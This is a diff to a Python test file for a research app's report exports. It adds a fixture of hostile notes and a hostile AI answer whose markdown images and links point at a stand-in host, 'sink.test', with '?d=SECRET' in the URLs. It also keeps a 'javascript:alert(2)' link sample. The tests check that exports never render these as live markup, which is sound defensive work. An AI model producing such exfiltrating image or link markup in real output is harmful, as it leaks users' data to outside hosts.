@@ -36,12 +36,13 @@ def test_html_report_is_one_accessible_offline_file(story: Story) -> None:
     assert "<h3>Findings</h3>" in text  # "# Findings" sits under "Notes"
     assert 'alt="Gentoo is longest"' in text and "data:image/png;base64," in text
     assert "<script" not in text and "&lt;script&gt;" in text  # the note's script is text
-    assert 'href="javascript' not in text and "[bad](javascript:alert(2))" in text
-    assert 'href="https://allisonhorst.github.io/palmerpenguins/"' in text
+    # no link from the notes is live; each shows its address as code (issue 18.3)
+    assert "<a " not in text and "[bad](javascript:alert(2))" in text
+    assert "good (<code>https://allisonhorst.github.io/palmerpenguins/</code>)" in text
     assert "<caption>Data behind “Mean bill length by species”</caption>" in text
     assert "<strong>Question:</strong> How heavy is each species?" in text
     assert "SELECT species" in text
-    assert not re.search(r'(src|href)="(?!data:|https://allisonhorst|#)', text)  # offline
+    assert not re.search(r'(src|href)="(?!data:)', text)  # offline
     # the answer has no picture given: it says so and still has its table
     assert "The picture of this chart is not included" in text
 
@@ -56,7 +57,7 @@ def test_markdown_zip_has_report_pictures_and_safe_csv(story: Story) -> None:
     assert "data/002-how-heavy-is-each-species.csv" in names
     report = archive.read("report.md").decode()
     assert "![Gentoo is longest](images/001-mean-bill-length-by-species.png)" in report
-    assert "&lt;script>" in report and "<script>" not in report
+    assert "\\<script\\>" in report and "<script>" not in report
     assert "| species |" in report
 
 
@@ -198,3 +199,60 @@ def test_the_notebook_draws_with_the_apps_colours_and_both_log_switches(story: S
                      if c.cell_type == "code")
     assert json.dumps(list(SERIES_COLORS)) in code
     assert 'update_xaxes(type="log")' in code and 'update_yaxes(type="log")' in code
+
+
+HOSTILE_TEXT = ("Look ![i](http://sink.test/i.png?d=SECRET) ![r][1] [l][1] "
+                "<http://sink.test/a?d=SECRET> http://sink.test/b?d=SECRET "
+                '<img src="http://sink.test/h.png?d=SECRET"> '
+                "[![n](http://sink.test/n.png?d=SECRET)](http://sink.test/m?d=SECRET)\n\n"
+                "[1]: http://sink.test/r?d=SECRET")
+HOSTILE_COLUMN = "![c](http://sink.test/c.png?d=SECRET) | `x` [y]"
+
+
+@pytest.fixture
+def hostile(story: Story) -> Story:
+    """The story's item with hostile notes, a hostile Claude answer and a hostile column."""
+    from services.research import notes
+    from services.research.notes import NoteSave
+
+    item = items.get_item(story.owner, story.item_id)
+    notes.save_notes(story.owner, story.item_id, NoteSave(text=HOSTILE_TEXT,
+                                                          base_version=item.notes_version))
+    frame = pd.DataFrame({HOSTILE_COLUMN: ["http://sink.test/cell?d=SECRET", "ok"]})
+    research.save_insight(story.owner, NewInsight(
+        item_id=story.item_id, kind="answer", title="Hostile ![t](http://sink.test/t.png)",
+        summary=HOSTILE_TEXT, spec={"question": "Where? ![q](http://sink.test/q.png)",
+                                    "row_count": 2}, dataset_id=story.dataset_id), frame)
+    return story
+
+
+def _no_live_markup(markdown: str) -> None:
+    from tests.markdown_checks import live_markup
+
+    ours = re.compile(r'<(a href|img src)="(data|images)/')  # the zip's own files
+    assert [m for m in live_markup(markdown) if not ours.match(m)] == [], markdown
+
+
+def test_html_report_has_no_live_image_or_link_from_hostile_text(hostile: Story) -> None:
+    text = html_report.build_html(load_export(hostile.owner, hostile.item_id)).decode()
+    assert "<a " not in text and "sink.test/i.png" not in text
+    assert not re.search(r'src="(?!data:)', text)
+    assert "<code>http://sink.test/b?d=SECRET</code>" in text  # shown, not clickable
+
+
+def test_markdown_zip_has_no_live_image_or_link_from_hostile_text(hostile: Story) -> None:
+    archive = zipfile.ZipFile(io.BytesIO(markdown_report.build_markdown_zip(
+        load_export(hostile.owner, hostile.item_id))))
+    report = archive.read("report.md").decode()
+    _no_live_markup(report)
+    assert "`http://sink.test/b?d=SECRET`" in report
+    header = next(line for line in report.splitlines() if "sink.test/c.png" in line)
+    assert header.count(" | ") == 0 and header.startswith("| ")  # one cell, not three
+
+
+def test_notebook_markdown_cells_have_no_live_image_or_link(hostile: Story) -> None:
+    book = notebook.build_notebook(load_export(hostile.owner, hostile.item_id), files={})
+    for cell in book.cells:
+        if cell.cell_type == "markdown":
+            _no_live_markup(cell.source)
+    assert any("`http://sink.test/b?d=SECRET`" in c.source for c in book.cells)
